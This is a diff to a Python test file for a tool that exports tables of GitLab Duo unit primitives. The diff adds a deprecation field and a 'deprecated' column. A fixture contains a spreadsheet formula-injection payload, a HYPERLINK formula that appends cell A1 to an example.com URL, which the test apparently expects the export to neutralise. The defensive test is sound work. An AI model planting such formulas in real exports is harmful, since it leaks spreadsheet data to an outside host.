@@ -29,6 +29,7 @@ CONFIG = """
     gitlab_realms: [self-managed]
     -- unit_primitives/explain_code --
     description: '=HYPERLINK("https://example.com/"&A1)'
+    deprecation_message: Ask duo_chat.
     -- add_ons/duo_core --
     -- add_ons/duo_pro --
     -- license_types/premium --
@@ -52,7 +53,7 @@ def test_the_table_of_unit_primitives_whole() -> None:
         "https://docs.gitlab.com/,,,2024-10-17T00:00:00Z,,16.10,,old_chat; older_chat,,,,duo_pro; duo_core,premium,"
         "self-managed,\r\n"
         'explain_code,"\'=HYPERLINK(""https://example.com/""&A1)",,,,group::duo_chat,duo_chat,'
-        "https://docs.gitlab.com/,,,,,,,,,,,,,,\r\n"
+        "https://docs.gitlab.com/,,,,,,,,,Ask duo_chat.,,,,,\r\n"
     )
 
 
@@ -86,16 +87,14 @@ def test_the_matrix_names_its_columns_by_kind_and_has_a_word_in_every_cell() -> 
     header, *rows = rows_of(matrix_table(made))
 
     assert header == [
-        *("unit_primitive", "feature_category"),
+        *("unit_primitive", "feature_category", "deprecated"),
         *("license_type:premium", "add_on:duo_core", "add_on:duo_pro", "gitlab_realm:self-managed"),
     ]
     assert rows == [
-        ["duo_chat", "duo_chat", *["Included"] * 4]
-        if primitive.name == "duo_chat"
-        else [primitive.name, "duo_chat", "Not stated", *["Free for now"] * 2, "Not stated"]
-        for primitive in made.catalog.unit_primitives
+        ["duo_chat", "duo_chat", "no", *["Included"] * 4],
+        ["explain_code", "duo_chat", "yes", "Not stated", *["Free for now"] * 2, "Not stated"],
     ]
-    assert all(len(matrix_cells(primitive, made)) == len(header) - 2 for primitive in made.catalog.unit_primitives)
+    assert all(len(matrix_cells(primitive, made)) == len(header) - 3 for primitive in made.catalog.unit_primitives)
 
 
 @pytest.mark.parametrize(
